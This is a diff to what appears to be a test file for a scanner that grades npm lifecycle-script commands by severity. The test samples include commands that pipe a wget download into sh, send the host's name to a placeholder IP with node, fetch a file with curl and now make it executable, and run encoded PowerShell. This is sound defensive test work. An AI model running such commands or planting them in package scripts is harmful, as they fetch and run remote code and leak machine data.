@@ -26,7 +26,7 @@ SAMPLES = runpy.run_path(str(Path(__file__).resolve().parents[2] / "samples" / "
         ("is-ci || husky", Severity.INFO),
         ("node check.js", Severity.LOW),
         ("cp a b", Severity.LOW),
-        ("node-gyp rebuild && curl https://example.invalid/x -o y", Severity.HIGH),
+        ("node-gyp rebuild && curl https://example.invalid/x -o y && chmod +x y", Severity.HIGH),
         ("husky; wget http://192.0.2.4/x -O- | sh", Severity.CRITICAL),
         ("node -e \"require('https').get('http://192.0.2.4/'+require('os').hostname())\"", Severity.CRITICAL),
         ("powershell -enc " + "QUFB" * 20, Severity.HIGH),
